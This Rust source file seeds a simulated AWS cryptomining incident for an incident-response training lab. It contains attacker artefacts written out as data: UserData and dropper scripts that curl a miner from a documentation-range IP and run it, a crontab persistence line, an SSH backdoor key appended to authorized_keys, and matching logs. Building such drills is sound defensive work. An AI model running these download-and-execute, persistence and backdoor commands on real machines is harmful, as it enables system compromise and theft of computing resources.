//! The cryptomining incident of `shared/seeds/ec2-cryptomining-playbook.md`, seeded in
//! the lab: a developer's access key leaked, the attacker launched an instance with a
//! miner in its UserData, installed a cron job and an SSH backdoor key. The responder's
//! job is to contain and preserve it.

use std::path::Path;
use std::process::Command;

use aws_sdk_ec2::types::{
    IamInstanceProfileSpecification, InstanceNetworkInterfaceSpecification, ResourceType, Tag,
    TagSpecification,
};
use base64::Engine;

use super::Lab;
use super::seed::{MEMBER_ROLE, SeedError, fail};
use crate::ids::{AccountId, InstanceId, Region};

/// The attacker's launch script, as CloudTrail would redact it and EC2 keeps it.
pub const MINER_USERDATA: &str = "#!/bin/bash
# dropped by the attacker through RunInstances with the leaked key AKIA...DEVCI
curl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig
chmod +x /tmp/.cache/xmrig
echo '*/5 * * * * root /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k' >> /etc/crontab
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMJAuDUGlgycWFRN4bj9puGhBLwumTgS2z106RkAVJL5 attacker@evil' >> /root/.ssh/authorized_keys
nohup /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k --donate-level 1 &
";

/// Where the attacker's calls come from (TEST-NET-3, documentation range).
pub const ATTACKER_IP: &str = "203.0.113.66";

/// What the drill's suspect looks like once seeded.
#[derive(Debug, Clone)]
pub struct Suspect {
    pub account: AccountId,
    pub region: Region,
    pub instance: InstanceId,
    pub volume: String,
    pub role_name: String,
    /// The leaked access key the attacker launched it with.
    pub access_key: String,
}

impl Suspect {
    pub fn arn(&self) -> String {
        crate::ids::instance_arn(&self.region, &self.account, &self.instance)
    }
}

/// Seeds the member account of the incident and returns the suspect instance.
pub async fn cryptomining(
    lab: &Lab,
    account: &AccountId,
    region: &Region,
    forensics: &AccountId,
    work: &Path,
) -> Result<Suspect, SeedError> {
    super::seed::role(lab, account, region, MEMBER_ROLE).await?;
    super::seed::handoff_key(lab, account, region, forensics).await?;
    let c = lab.clients(account, region);

    // The compromised developer and the key the attacker used.
    c.iam.create_user().user_name("dev-ci").send().await.map_err(fail("create user"))?;
    let key =
        c.iam.create_access_key().user_name("dev-ci").send().await.map_err(fail("create access key"))?;
    let key = key.access_key().ok_or_else(|| fail("access key")("missing"))?;
    let attacker = lab.clients_with_key(key.access_key_id(), key.secret_access_key(), region, ATTACKER_IP);

    // The application's network: a VPC with IPv6, a public web subnet, an open web group.
    let vpc = c
        .ec2
        .create_vpc()
        .cidr_block("10.20.0.0/16")
        .amazon_provided_ipv6_cidr_block(true)
        .send()
        .await
        .map_err(fail("create VPC"))?;
    let vpc_id = vpc.vpc().and_then(|v| v.vpc_id()).ok_or_else(|| fail("vpc id")("missing"))?.to_owned();
    let subnet = c
        .ec2
        .create_subnet()
        .vpc_id(&vpc_id)
        .cidr_block("10.20.1.0/24")
        .availability_zone(format!("{region}a"))
        .send()
        .await
        .map_err(fail("create subnet"))?;
    let subnet_id =
        subnet.subnet().and_then(|s| s.subnet_id()).ok_or_else(|| fail("subnet id")("missing"))?.to_owned();
    let web = c
        .ec2
        .create_security_group()
        .group_name("web")
        .description("web tier")
        .vpc_id(&vpc_id)
        .send()
        .await
        .map_err(fail("create web group"))?;
    let web_sg = web.group_id().ok_or_else(|| fail("web sg")("missing"))?.to_owned();
    c.ec2
        .authorize_security_group_ingress()
        .group_id(&web_sg)
        .ip_permissions(
            aws_sdk_ec2::types::IpPermission::builder()
                .ip_protocol("tcp")
                .from_port(22)
                .to_port(22)
                .ip_ranges(aws_sdk_ec2::types::IpRange::builder().cidr_ip("0.0.0.0/0").build())
                .build(),
        )
        .send()
        .await
        .map_err(fail("open ssh"))?;

    // The instance role the miner can use to reach further.
    let role_name = "web-app-role";
    c.iam
        .create_role()
        .role_name(role_name)
        .assume_role_policy_document(
            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#,
        )
        .send()
        .await
        .map_err(fail("create instance role"))?;
    c.iam
        .create_instance_profile()
        .instance_profile_name(role_name)
        .send()
        .await
        .map_err(fail("create profile"))?;
    c.iam
        .add_role_to_instance_profile()
        .instance_profile_name(role_name)
        .role_name(role_name)
        .send()
        .await
        .map_err(fail("add role to profile"))?;

    let ami = c
        .ec2
        .register_image()
        .name("ubuntu-22.04-lab")
        .root_device_name("/dev/sda1")
        .architecture(aws_sdk_ec2::types::ArchitectureValues::X8664)
        .send()
        .await
        .map_err(fail("register AMI"))?;
    let ami_id = ami.image_id().ok_or_else(|| fail("ami id")("missing"))?.to_owned();

    // The attacker's launch with the leaked key, the miner in UserData (the SDK does not
    // base64 it), the root volume encrypted under the account's default aws/ebs key.
    let userdata = base64::engine::general_purpose::STANDARD.encode(MINER_USERDATA);
    let run = attacker
        .ec2
        .run_instances()
        .block_device_mappings(
            aws_sdk_ec2::types::BlockDeviceMapping::builder()
                .device_name("/dev/sda1")
                .ebs(aws_sdk_ec2::types::EbsBlockDevice::builder().encrypted(true).volume_size(1).build())
                .build(),
        )
        .image_id(&ami_id)
        .instance_type(aws_sdk_ec2::types::InstanceType::C5Xlarge)
        .min_count(1)
        .max_count(1)
        .user_data(userdata)
        .network_interfaces(
            InstanceNetworkInterfaceSpecification::builder()
                .device_index(0)
                .subnet_id(&subnet_id)
                .groups(&web_sg)
                .associate_public_ip_address(true)
                .build(),
        )
        .iam_instance_profile(IamInstanceProfileSpecification::builder().name(role_name).build())
        .tag_specifications(
            TagSpecification::builder()
                .resource_type(ResourceType::Instance)
                .tags(Tag::builder().key("Name").value("ci-runner-7").build())
                .build(),
        )
        .send()
        .await
        .map_err(fail("launch the attacker's instance"))?;
    let instance = run.instances().first().ok_or_else(|| fail("instance")("missing"))?;
    let instance_id: InstanceId = instance
        .instance_id()
        .ok_or_else(|| fail("instance id")("missing"))?
        .parse()
        .map_err(fail("instance id"))?;

    // Its disk: a data volume with the miner, the cron job and the backdoor key.
    let volume = c
        .ec2
        .create_volume()
        .availability_zone(format!("{region}a"))
        .size(1)
        .send()
        .await
        .map_err(fail("create volume"))?;
    let volume_id = volume.volume_id().ok_or_else(|| fail("volume id")("missing"))?.to_owned();
    c.ec2
        .attach_volume()
        .volume_id(&volume_id)
        .instance_id(instance_id.as_str())
        .device("/dev/sdf")
        .send()
        .await
        .map_err(fail("attach volume"))?;
    let image = compromised_disk(work)?;
    let path = image.to_str().ok_or_else(|| fail("image path")("not UTF-8"))?;
    lab.admin(
        reqwest::Method::PUT,
        &format!("/_lab/volumes/{volume_id}/data?region={region}&path={path}"),
        Some(account),
        None,
    )
    .await
    .map_err(fail("seed the disk image"))?;

    let console = "[    0.000000] Linux version 5.15.0-1051-aws\n\
        [   12.112233] cloud-init[812]: running user-data\n\
        [   14.500000] xmrig[1337]: [2026-11-21 23:14:02] net use pool pool.minexmr.example:4444\n\
        [   14.600000] xmrig[1337]: cpu use argon2 implementation AVX2, 4 threads\n";
    lab.admin_put_bytes(
        &format!("/_lab/instances/{instance_id}/console-output"),
        account,
        region,
        console.into(),
    )
    .await
    .map_err(fail("seed console output"))?;

    Ok(Suspect {
        account: account.clone(),
        region: region.clone(),
        instance: instance_id,
        volume: volume_id,
        role_name: role_name.into(),
        access_key: key.access_key_id().to_owned(),
    })
}

/// The attacker's download script on the suspect's disk, deleted after it ran.
const DROPPER: &str = "tmp/.cache/install.sh";

/// Builds a small ext4 image holding the attacker's traces (needs mkfs.ext4 from
/// e2fsprogs, which scripts/setup installs).
fn compromised_disk(work: &Path) -> Result<std::path::PathBuf, SeedError> {
    let root = work.join("suspect-root");
    let files: &[(&str, &str)] = &[
        (
            "tmp/.cache/xmrig",
            "XMRig 6.21.0 stratum+tcp://pool.minexmr.example:4444 donate-level cryptonight randomx\n",
        ),
        (
            "etc/crontab",
            "*/5 * * * * root /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k\n",
        ),
        (
            "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMJAuDUGlgycWFRN4bj9puGhBLwumTgS2z106RkAVJL5 attacker@evil\n",
        ),
        (
            "var/log/auth.log",
            "Nov 21 23:11:02 ip-10-20-1-5 sshd[887]: Failed password for root from 203.0.113.66 port 50122 ssh2\n\
             Nov 21 23:11:05 ip-10-20-1-5 sshd[887]: Failed password for root from 203.0.113.66 port 50122 ssh2\n\
             Nov 21 23:12:40 ip-10-20-1-5 sshd[901]: Accepted publickey for root from 203.0.113.66 port 50188 ssh2: ED25519 SHA256:Backdoor\n",
        ),
        (
            // The dropper, deleted once it ran (below): only its inode remains.
            DROPPER,
            "#!/bin/sh\ncurl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig && chmod +x /tmp/.cache/xmrig\n",
        ),
        (
            "root/.bash_history",
            "curl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig\nchmod +x /tmp/.cache/xmrig\n",
        ),
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nubuntu:x:1000:1000::/home/ubuntu:/bin/bash\n"),
    ];
    for (rel, text) in files {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().expect("files are under a directory"))
            .map_err(fail("make image tree"))?;
        std::fs::write(&path, text).map_err(fail("write image file"))?;
        if rel.starts_with("tmp/") {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))
                .map_err(fail("make the miner executable"))?;
        }
    }
    let image = work.join("suspect-disk.img");
    let status = Command::new("mkfs.ext4")
        .args(["-q", "-F", "-L", "ci-runner-7", "-d"])
        .arg(&root)
        .arg(&image)
        .arg("64M")
        .env("E2FSPROGS_FAKE_TIME", "1763766000")
        .status()
        .map_err(fail("run mkfs.ext4 (install e2fsprogs)"))?;
    if !status.success() {
        return Err(fail("mkfs.ext4")(status));
    }
    // debugfs, unlike the kernel, leaves the deleted inode's extents: the Sleuth Kit lists
    // the name as deleted and recovers the content, as it often can on a real disk.
    let status = Command::new("debugfs")
        .args(["-w", "-R", &format!("rm /{DROPPER}")])
        .arg(&image)
        .env("E2FSPROGS_FAKE_TIME", "1763766300")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .map_err(fail("run debugfs (install e2fsprogs)"))?;
    if !status.success() {
        return Err(fail("debugfs rm")(status));
    }
    Ok(image)
}
